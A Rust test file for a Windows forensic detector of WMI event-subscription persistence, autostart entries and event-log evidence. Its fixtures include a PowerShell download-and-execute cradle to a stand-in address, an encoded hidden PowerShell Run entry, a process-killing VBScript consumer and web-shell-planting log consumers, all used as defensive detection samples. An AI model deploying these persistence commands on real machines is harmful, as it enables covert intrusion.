//! The judgement as a whole, on evidence made up in code. Recordings of real machines are tested with the command line.

mod starts;
mod stores;

use crate::assessment::{Action, Assessment, Confidence, Kind, Severity, Stage, State, Verdict};
use crate::test_support::{evidence_of, object, records_of};
use evidence::{
    Area, AutostartEntry, AutostartKind, ClassProperty, Evidence, ReadState, RecordData, WmiClass, WmiObject,
};
use intel::Intel;

fn stock() -> Vec<WmiObject> {
    vec![
        object(
            "__EventFilter",
            &[
                ("Name", "SCM Event Log Filter"),
                ("Query", "select * from MSFT_SCMEventLogEvent"),
                ("QueryLanguage", "WQL"),
                ("EventNamespace", r"root\cimv2"),
                ("EventAccess", ""),
            ],
        ),
        object(
            "NTEventLogEventConsumer",
            &[
                ("Name", "SCM Event Log Consumer"),
                ("Category", "0"),
                ("EventID", "0"),
                ("EventType", "1"),
                ("InsertionStringTemplates", ""),
                ("NameOfRawDataProperty", ""),
                ("NameOfUserSIDProperty", "sid"),
                ("NumberOfInsertionStrings", "0"),
                ("SourceName", "Service Control Manager"),
                ("UNCServerName", ""),
            ],
        ),
        binding("SCM Event Log Filter", "NTEventLogEventConsumer", "SCM Event Log Consumer"),
    ]
}

fn binding(filter: &str, class: &str, consumer: &str) -> WmiObject {
    object(
        "__FilterToConsumerBinding",
        &[
            ("Filter", &format!("__EventFilter.Name=\"{filter}\"")),
            ("Consumer", &format!("{class}.Name=\"{consumer}\"")),
            ("DeliverSynchronously", "FALSE"),
            ("DeliveryQoS", ""),
            ("MaintainSecurityContext", "FALSE"),
            ("SlowDownProviders", "FALSE"),
        ],
    )
}

fn filter(name: &str, query: &str) -> WmiObject {
    object(
        "__EventFilter",
        &[("Name", name), ("Query", query), ("QueryLanguage", "WQL"), ("EventNamespace", r"root\cimv2")],
    )
}

fn command(name: &str, line: &str) -> WmiObject {
    object(
        "CommandLineEventConsumer",
        &[("Name", name), ("CommandLineTemplate", line), ("ExecutablePath", "")],
    )
}

/// The stock entry and these objects, read completely.
fn machine(objects: impl IntoIterator<Item = WmiObject>) -> Evidence {
    complete(evidence_of(stock().into_iter().chain(objects)))
}

fn complete(mut evidence: Evidence) -> Evidence {
    for area in [Area::EventFilters, Area::EventConsumers, Area::Bindings] {
        evidence.coverage.add(area, ReadState::Complete);
    }
    evidence
}

fn assess(evidence: &Evidence) -> Assessment {
    crate::assess(evidence, Intel::builtin())
}

fn state(assessment: &Assessment, stage: Stage) -> State {
    assessment.stages.iter().find(|s| s.stage == stage).map(|s| s.state).unwrap()
}

#[test]
fn a_clean_machine_is_silent() {
    let assessment = assess(&machine([]));
    assert_eq!(assessment.verdict, Verdict::Clean);
    assert!(assessment.findings.is_empty(), "{:#?}", assessment.findings);
    assert_eq!(state(&assessment, Stage::Compare), State::Ok);
    assert_eq!(state(&assessment, Stage::Confirm), State::Ok);
    assert_eq!(state(&assessment, Stage::Patch), State::Unknown);
    assert_eq!(state(&assessment, Stage::Verify), State::Unknown);
    assert_eq!(assessment.stages.len(), 8);
}

#[test]
fn a_part_that_was_not_read_is_never_clean() {
    let mut evidence = evidence_of(stock());
    evidence.coverage.add(Area::EventFilters, ReadState::Complete);
    let assessment = assess(&evidence);
    assert_eq!(assessment.verdict, Verdict::Inconclusive);
    assert_eq!(state(&assessment, Stage::Compare), State::Unknown);
    assert!(assessment.missing.iter().any(|missing| missing.area == Area::Bindings && !missing.partly));
}

#[test]
fn a_missing_stock_entry_is_a_finding_and_names_its_parts() {
    // What the published removal script leaves: its first line deletes the stock filter.
    let assessment = assess(&complete(evidence_of(stock().into_iter().skip(1))));
    let kinds: Vec<_> = assessment.findings.iter().map(|f| (f.kind, f.action)).collect();
    assert_eq!(kinds, [(Kind::StockMissing, Action::Restore)]);
    assert_eq!(assessment.findings[0].subject["missing"], serde_json::json!(["filter"]));
    assert_eq!(assessment.verdict, Verdict::Clean);
    assert_eq!(state(&assessment, Stage::Compare), State::Act);
}

#[test]
fn a_stock_name_with_another_content_is_worse_than_an_unknown_name() {
    let forged = [
        filter("SCM Event Log Filter", "select * from MSFT_SCMEventLogEvent"),
        command("SCM Event Log Consumer", r"C:\Windows\System32\notepad.exe"),
        binding("SCM Event Log Filter", "CommandLineEventConsumer", "SCM Event Log Consumer"),
    ];
    let unknown = [
        filter("My Filter", "select * from MSFT_SCMEventLogEvent"),
        command("My Consumer", r"C:\Windows\System32\notepad.exe"),
        binding("My Filter", "CommandLineEventConsumer", "My Consumer"),
    ];
    let forged = assess(&machine(forged));
    assert_eq!(forged.verdict, Verdict::Infected);
    assert_eq!(
        (forged.findings[0].severity, forged.findings[0].confidence),
        (Severity::High, Confidence::Likely)
    );
    let unknown = assess(&machine(unknown));
    assert_eq!(unknown.verdict, Verdict::Suspicious);
    assert_eq!(
        (unknown.findings[0].severity, unknown.findings[0].confidence),
        (Severity::Medium, Confidence::Possible)
    );
    assert_eq!(unknown.findings[0].action, Action::Review);
}

#[test]
fn the_creator_never_decides() {
    let mut objects = stock();
    for object in &mut objects {
        object.properties.push(evidence::Property {
            name: evidence::PropertyName::known("CreatorSID"),
            value: evidence::Value::Array([1u64, 5, 0, 0].map(Into::into).to_vec()),
            state: evidence::State::Truncated,
        });
    }
    assert!(assess(&complete(evidence_of(objects))).findings.is_empty());
}

#[test]
fn a_download_in_a_consumer_is_infected_and_shown() {
    let assessment = assess(&machine([
        filter(
            "f",
            "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'",
        ),
        command(
            "c",
            "cmd /C powershell.exe -nop iex(New-Object Net.WebClient).DownloadString('http://192.0.2.4/a.ps1')",
        ),
        binding("f", "CommandLineEventConsumer", "c"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Infected);
    let finding = &assessment.findings[0];
    assert_eq!((finding.kind, finding.action), (Kind::Subscription, Action::Remove));
    assert!(finding.attack.contains(&"T1546.003".to_owned()));
    assert!(
        finding.decoded[0].indicators.iter().any(|i| i.value.contains("192.0.2.4")),
        "{:?}",
        finding.decoded
    );
    assert_eq!(finding.subject["filters"].as_array().map(Vec::len), Some(1));
}

#[test]
fn a_consumer_bound_twice_is_one_finding() {
    let query = "SELECT * FROM Win32_ProcessStartTrace WHERE ProcessName = 'procexp64.exe'";
    let script = "Set p = GetObject(\"winmgmts:\").ExecQuery(\"select * from Win32_Process\")\nfor each x in p\nx.Terminate()\nnext";
    let assessment = assess(&machine([
        filter("f1", query),
        filter("f2", query),
        object(
            "ActiveScriptEventConsumer",
            &[("Name", "c"), ("ScriptingEngine", "VBScript"), ("ScriptText", script)],
        ),
        binding("f1", "ActiveScriptEventConsumer", "c"),
        binding("f2", "ActiveScriptEventConsumer", "c"),
    ]));
    assert_eq!(assessment.findings.len(), 1);
    assert_eq!(assessment.findings[0].severity, Severity::High, "it ends a tool for looking at the machine");
    assert_eq!(assessment.findings[0].subject["filters"].as_array().map(Vec::len), Some(2));
}

#[test]
fn names_alone_are_never_infected() {
    let assessment = assess(&machine([
        filter("SCM Event8 Log Filter", "select * from Win32_VolumeChangeEvent"),
        command("SCM Event8 Log Consumer", r"C:\Program Files\Backup\sync.exe"),
        binding("SCM Event8 Log Filter", "CommandLineEventConsumer", "SCM Event8 Log Consumer"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Suspicious);
    assert!(assessment.findings.iter().all(|f| f.severity >= Severity::Medium && f.action == Action::Review));
}

#[test]
fn the_bvt_entry_is_for_review_and_says_why() {
    let assessment = assess(&machine([
        filter(
            "BVTFilter",
            "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA \"Win32_Processor\" AND TargetInstance.LoadPercentage > 99",
        ),
        object(
            "CommandLineEventConsumer",
            &[
                ("Name", "BVTConsumer"),
                ("CommandLineTemplate", "cscript KernCap.vbs"),
                ("WorkingDirectory", r"C:\\tools\\kernrate"),
            ],
        ),
        binding("BVTFilter", "CommandLineEventConsumer", "BVTConsumer"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
    assert_eq!(assessment.findings[0].severity, Severity::Low);
    assert!(assessment.findings[0].reasons.iter().any(|reason| reason.id == "reason-baseline-file"));
}

fn entry(kind: AutostartKind, name: &str, command: &str) -> RecordData {
    RecordData::Autostart(AutostartEntry {
        kind: Some(kind),
        name: name.into(),
        location: "Task Scheduler".into(),
        launch_string: Some(command.into()),
        ..AutostartEntry::default()
    })
}

#[test]
fn an_ambiguous_reading_of_the_stock_entry_is_not_silent() {
    let mut objects = stock();
    objects[1].ambiguous = true;
    let assessment = assess(&complete(evidence_of(objects)));
    assert_ne!(assessment.verdict, Verdict::Clean);
    assert!(assessment.findings.iter().all(|f| f.action != Action::Remove));
}

#[test]
fn two_runs_give_the_same() {
    let evidence = machine([
        command("c", "powershell -w hidden -enc SQBFAFgA"),
        filter("f", "select * from __TimerEvent"),
    ]);
    assert_eq!(assess(&evidence), assess(&evidence));
}

fn event(provider: &str, event_id: u32, data: &[(&str, &str)]) -> RecordData {
    RecordData::Event(evidence::Event {
        channel: "log".into(),
        provider: provider.into(),
        event_id,
        record_id: 7,
        time: "2022-03-10T21:08:30Z".parse().unwrap(),
        computer: "PC".into(),
        data: data.iter().map(|(name, value)| ((*name).to_owned(), (*value).to_owned())).collect(),
    })
}

/// Records of one event, as a log's reader derives them: all at the place of the event.
fn from_log(records: impl IntoIterator<Item = RecordData>) -> Evidence {
    let mut evidence = records_of(records);
    evidence.sources[0].format = "event-log".into();
    for record in &mut evidence.records {
        record.provenance.location = evidence::Location::Record(7);
    }
    evidence
}

#[test]
fn what_only_a_log_shows_is_no_longer_removed() {
    let was = || {
        let objects =
            [filter("f", "select * from __TimerEvent"), command("c", "powershell -w hidden -enc SQBFAFgA")];
        let binding = binding("f", "CommandLineEventConsumer", "c");
        let objects = objects.into_iter().chain([binding]).map(RecordData::WmiObject);
        from_log(objects.chain([event("Microsoft-Windows-WMI-Activity", 5861, &[("CONSUMER", "c")])]))
    };
    let alone = assess(&was());
    assert_eq!(alone.verdict, Verdict::Infected, "nothing tells that it is gone");
    assert_eq!(alone.findings[0].reasons[0].id, "reason-history");
    assert_eq!(alone.timeline.len(), 1);

    let mut with_listing = machine([]);
    with_listing.merge(was());
    let gone = assess(&with_listing);
    assert_eq!(gone.verdict, Verdict::Suspicious);
    assert_eq!(gone.findings[0].reasons[0].id, "reason-history-gone");
    assert_eq!(gone.findings[0].action, Action::Review);

    let mut still = machine([
        filter("f", "select * from __TimerEvent"),
        command("c", "powershell -w hidden -enc SQBFAFgA"),
        binding("f", "CommandLineEventConsumer", "c"),
    ]);
    still.merge(was());
    let still = assess(&still);
    assert_eq!(still.findings.len(), 1, "one finding with two pieces of evidence");
    assert_eq!((still.verdict, still.findings[0].action), (Verdict::Infected, Action::Remove));
    assert!(still.findings[0].evidence.len() > 1);
}

#[test]
fn what_defender_found_is_one_finding_a_threat() {
    let found = || {
        let data = [("Threat Name", "HackTool:Win32/X"), ("Path", "file:_C:\\x")];
        event("Microsoft-Windows-Windows Defender", 1116, &data)
    };
    let assessment = assess(&records_of([found(), found()]));
    assert_eq!(assessment.findings.len(), 1);
    assert_eq!((assessment.findings[0].kind, assessment.findings[0].severity), (Kind::Event, Severity::High));
}

#[test]
fn what_a_damaged_hive_lost_is_the_past_and_never_planned() {
    let entry = RecordData::Autostart(evidence::AutostartEntry {
        kind: Some(evidence::AutostartKind::Run),
        location: r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run".into(),
        name: "x".into(),
        launch_string: Some(
            "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AeAAuAHgALwBhACcAKQA="
                .into(),
        ),
        ..evidence::AutostartEntry::default()
    });
    let mut evidence = records_of([entry]);
    assert_eq!(assess(&evidence).findings[0].action, Action::Remove);
    evidence.sources[0].format = "registry-hive-deleted".into();
    let found = assess(&evidence);
    assert_eq!((found.findings[0].severity, found.findings[0].action), (Severity::Medium, Action::Review));
}

#[test]
fn what_hangs_on_something_missing_is_still_judged() {
    let query = "SELECT * FROM __InstanceModificationEvent WITHIN 5600 WHERE TargetInstance ISA 'Win32_PerfFormattedData_PerfOS_System'";
    let mut objects = stock();
    objects[0] = filter("SCM Event Log Filter", query);
    objects.push(binding("SCM Event Log Filter", "CommandLineEventConsumer", "Gone"));
    let assessment = assess(&complete(evidence_of(objects)));
    assert_ne!(assessment.verdict, Verdict::Clean, "{:#?}", assessment.findings);
    let text = serde_json::to_string(&assessment.findings).unwrap();
    assert!(text.contains("WITHIN 5600"), "the query is shown");
}

#[test]
fn a_name_known_from_hearsay_makes_no_impostor() {
    let assessment = assess(&machine([
        filter("logon", "select * from Win32_LogonSession"),
        command("McAfee Updater", r#""C:\Program Files\McAfee\upd.exe""#),
        binding("logon", "CommandLineEventConsumer", "McAfee Updater"),
    ]));
    assert_eq!(assessment.verdict, Verdict::Suspicious);
}

#[test]
fn a_log_consumer_that_plants_code_is_no_log() {
    let planted = |file: &str| {
        let consumer =
            object("LogFileEventConsumer", &[("Name", "c"), ("Filename", file), ("Text", "<%x%>")]);
        let binding = binding("f", "LogFileEventConsumer", "c");
        assess(&machine([filter("f", "select * from Win32_VolumeChangeEvent"), consumer, binding])).verdict
    };
    assert_eq!(planted(r"C:\inetpub\wwwroot\x.aspx. "), Verdict::Infected);
    assert_eq!(
        planted(r"C:\Users\a\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x"),
        Verdict::Infected
    );
    assert_eq!(planted(r"C:\data\x.dat"), Verdict::Suspicious);
    assert_eq!(planted(r"C:\logs\usb.log"), Verdict::Clean);
}
